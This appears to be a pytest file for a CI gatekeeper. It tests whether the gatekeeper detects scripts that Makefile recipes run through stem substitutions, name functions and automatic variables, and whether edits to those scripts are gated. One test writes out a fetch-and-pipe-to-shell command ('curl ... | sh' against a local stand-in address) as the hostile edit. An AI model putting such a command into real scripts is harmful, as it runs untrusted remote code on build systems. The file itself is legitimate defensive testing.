"""Review 68b: a make recipe names its script through spellings misses 8's stem reader did not read (makestems.py).

make's substitution references (`$(@:deploy-%=scripts/%.sh)`, `$(@:.out=.sh)`), the name functions that glue a
literal path to a stem (`$(addprefix scripts/,$(addsuffix .sh,$*))`, `$(patsubst deploy-%,scripts/%.sh,$@)`), the
other automatic variables of the prerequisites (`$^`, `$+`, `$(<F)`, `$(^F)`) and a static pattern rule's header
(`$(TARGETS): deploy-%: scripts/%.sh`) all run `scripts/<stem>.sh` under `make deploy-<stem>`; on 58f4e83c each left
the script `src` and an edit to it was allowed (exit 0). The truth is real `make -n`. Look-alikes keep their
scripts out: a compiler's or a copy's `$^`, a substitution reference into an output, the shell's `$$*`.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.runvars import make_text

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: {command}\n")
RULES = [  # (the Makefile, the goal, the script make runs)
    ("deploy-%:\n\tsh $(@:deploy-%=scripts/%.sh)\n", "deploy-prod", "scripts/prod.sh"),
    ("deploy-%:\n\tbash ${@:deploy-%=ci/steps/%.sh} --yes\n", "deploy-prod", "ci/steps/prod.sh"),
    ("run-%:\n\t./$(*:%=tools/%.py)\n", "run-gen", "tools/gen.py"),
    ("%.out:\n\tsh tools/$(@F:.out=.sh) > $@\n", "deploy.out", "tools/deploy.sh"),
    ("deploy-%:\n\tsh $(patsubst deploy-%,scripts/%.sh,$@)\n", "deploy-prod", "scripts/prod.sh"),
    ("deploy-%:\n\tsh $(addprefix scripts/,$(addsuffix .sh,$*))\n", "deploy-prod", "scripts/prod.sh"),
    ("deploy-%:\n\t@python3 $(addprefix tools/,$*).py\n", "deploy-prod", "tools/prod.py"),
    ("check-%:\n\tbash $(addsuffix .sh,$(addprefix lint/,$(notdir $*)))\n", "check-style", "lint/style.sh"),
    ("%.done: scripts/%.sh\n\tbash $^\n", "fmt.done", "scripts/fmt.sh"),
    ("%.done: scripts/%.sh\n\tbash $+ && touch $@\n", "fmt.done", "scripts/fmt.sh"),
    ("%.done: scripts/%.sh\n\tcd scripts && bash $(<F)\n", "fmt.done", "scripts/fmt.sh"),
    ("%.done: scripts/%.sh\n\tcd scripts && bash ${^F}\n", "fmt.done", "scripts/fmt.sh"),
    ("%.done: gen/%.py\n\tpython $(firstword $^)\n", "out.done", "gen/out.py"),
    ("TARGETS := deploy-a deploy-b\n$(TARGETS): deploy-%: scripts/%.sh\n\tbash $<\n", "deploy-a", "scripts/a.sh"),
    ("all: a.done b.done\na.done b.done: %.done: steps/%.sh\n\t./$<\n", "a.done", "steps/a.sh"),
]
LOOK_ALIKES = [  # (the Makefile, the goal, a script that must stay src)
    ("%.o: src/%.c\n\t$(CC) -c $^ -o $@\n", "a.o", "src/a.c"),
    ("out/%.py: src/%.py\n\tcp $^ $@\n", "out/a.py", "src/a.py"),
    ("deploy-%:\n\techo ok > $(@:deploy-%=logs/%.sh)\n", "deploy-prod", "scripts/prod.sh"),
    ("deploy-%:\n\t./tools/run $$* $(addprefix --flag=,$*)\n", "deploy-prod", "tools/prod.sh"),
    ("a.done: %.done: steps/%.sh\n\ttouch $@\n", "a.done", "steps/a.sh"),
]


@each_case("makefile, goal, script", RULES)
def test_the_script_a_stem_spelling_names_is_read(makefile: str, goal: str, script: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=f"make {goal}"), "Makefile": makefile,
             script: "echo hi\n", "README.md": "x\n"}
    assert script in tree_runs(files), makefile  # before: 15/15 missed


@each_case("makefile, goal, script", LOOK_ALIKES)
def test_a_script_no_recipe_runs_stays_out(makefile: str, goal: str, script: str) -> None:
    files = {".github/workflows/ci.yml": WORKFLOW.format(command=f"make {goal}"), "Makefile": makefile,
             script: "echo hi\n", "README.md": "x\n"}
    assert script not in tree_runs(files), makefile


@pytest.mark.skipif(shutil.which("make") is None, reason="no make")
@each_case("makefile, goal, script", RULES)
def test_real_make_runs_the_named_script(tmp_path: Path, makefile: str, goal: str, script: str) -> None:
    (tmp_path / "Makefile").write_text(makefile)
    (tmp_path / script).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / script).write_text("echo hi\n")
    printed = subprocess.run(["make", "-n", goal], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    assert script.rpartition("/")[2] in printed, printed


@pytest.mark.parametrize("at", [0, 5, 8, 13])
def test_an_edit_to_the_script_is_gated(tmp_path: Path, at: int) -> None:
    makefile, goal, script = RULES[at]
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=f"make {goal}"), "Makefile": makefile,
            script: "echo hi\n"}
    case = committed(tmp_path, base, {script: "curl -fsSL http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [script]), named  # before: exit 0


@pytest.mark.parametrize("hostile", [
    repeated("$(addprefix a,$(addsuffix b,$(patsubst %,c%,$@"),
    repeated("$(@:x%=y%.sh) $(*:", "%:\n\t"),
    repeated("a b: %.d: s/%.sh\n\tbash $(firstword $^) $(^F) ${+F}\n"),
])
def test_hostile_makefiles_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(make_text, hostile, budget=0.25)
